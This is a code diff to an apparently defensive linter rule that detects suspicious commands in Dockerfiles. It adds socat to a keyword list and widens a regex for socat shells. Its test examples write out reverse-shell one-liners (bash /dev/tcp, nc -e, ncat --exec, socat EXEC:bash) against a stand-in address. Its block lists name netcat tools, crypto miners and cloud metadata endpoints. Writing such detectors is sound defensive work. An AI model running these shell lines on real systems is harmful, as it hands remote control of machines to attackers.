@@ -35,7 +35,7 @@ export const suspiciousCommand = defineRule({
 	equivalents: [],
 	onlyWith: {
 		texts: [
-			...["/dev/tcp/", "/dev/udp/", "ncat", "netcat", "nc.traditional", "nc ", "nc\t", "nc\\", 'nc"', "nc'"],
+			...["/dev/tcp/", "/dev/udp/", "ncat", "netcat", "nc.traditional", "socat", "nc ", "nc\t", "nc\\", 'nc"', "nc'"],
 			...["base64", "xxd", "b64decode", "unhexlify", "openssl", "powershell", "pwsh"],
 			...["xmrig", "minerd", "cpuminer", "ethminer", "nbminer", "xmr-stak", "stratum+"],
 			...["chattr", "histfile", "history", "/proc/sys", "169.254.169.254", "metadata.google.internal", "100.100.100.200"],
@@ -53,7 +53,11 @@ export const suspiciousCommand = defineRule({
 	examples: [
 		{
 			caption: "Shells for others",
-			bad: 'FROM debian:12\nRUN «bash» -i >& /dev/tcp/203.0.113.5/4444 0>&1\nRUN «nc» -e /bin/sh 203.0.113.5 4444\nCMD sh -c "«ncat» 203.0.113.5 4444 --exec /bin/bash"\nRUN cat /f | «sh» -i 2>&1 | nc 203.0.113.5 80 > /f; «socat» TCP:203.0.113.5:80 EXEC:/bin/sh\n',
+			bad: 'FROM debian:12\nRUN «bash» -i >& /dev/tcp/203.0.113.5/4444 0>&1\nRUN «nc» -e /bin/sh 203.0.113.5 4444\nCMD sh -c "«ncat» 203.0.113.5 4444 --exec /bin/bash"\nRUN cat /f | «sh» -i 2>&1 | nc 203.0.113.5 80 > /f\n',
+		},
+		{
+			caption: "A shell for whoever connects",
+			bad: "FROM debian:12\nRUN «socat» TCP:203.0.113.5:80 EXEC:'bash -li',pty,stderr\n",
 		},
 		{
 			caption: "Decoded and run",
@@ -69,7 +73,7 @@ export const suspiciousCommand = defineRule({
 		},
 		{
 			caption: "Decoded into a file, ports that are tried, helpers that serve",
-			good: "FROM debian:12\nRUN echo aGkK | base64 -d > /f && base64 -d f | tar x && head -c 16 /dev/urandom | base64 && nc -z localhost 80 && timeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && bash -i -c 'bundle install' && cat /proc/sys/kernel/shmmax && rm -f ~/.bash_history\nHEALTHCHECK CMD echo > /dev/tcp/localhost/80\nCMD nc -lk -p 80 -e handler.sh\n",
+			good: "FROM debian:12\nRUN echo aGkK | base64 -d > /f && base64 -d f | tar x && head -c 16 /dev/urandom | base64 && nc -z localhost 80 && timeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && bash -i -c 'bundle install' && cat /proc/sys/kernel/shmmax && rm -f ~/.bash_history\nHEALTHCHECK CMD echo > /dev/tcp/localhost/80\nCMD nc -lk -p 80 -e handler.sh\nFROM debian:12\nCMD socat TCP-LISTEN:8080,fork EXEC:\"/bin/bash /srv/handler.sh\"\n",
 		},
 		{
 			caption: "Only words",
@@ -160,7 +164,7 @@ function givesShell(command: ShellCommand, texts: readonly string[]): boolean {
 	if (program === "socat")
 		return (
 			texts.some((text) => /^(?:tcp|udp|openssl)/i.test(text)) &&
-			texts.some((text) => /^(?:exec|system):["']?(?:\/\S*\/)?(?:ba|da|z)?sh\b/i.test(text))
+			texts.some((text) => /^(?:exec|system):["']?(?:\/\S*\/)?(?:ba|da|z)?sh(?:\s+-[a-z]+)*["']?(?:,.*)?$/i.test(text))
 		);
 	if (!NETCATS.test(program)) return false;
 	const at = texts.findIndex((text) => /^-[a-zA-Z]*[ec]$|^--(?:sh-)?exec$/.test(text));
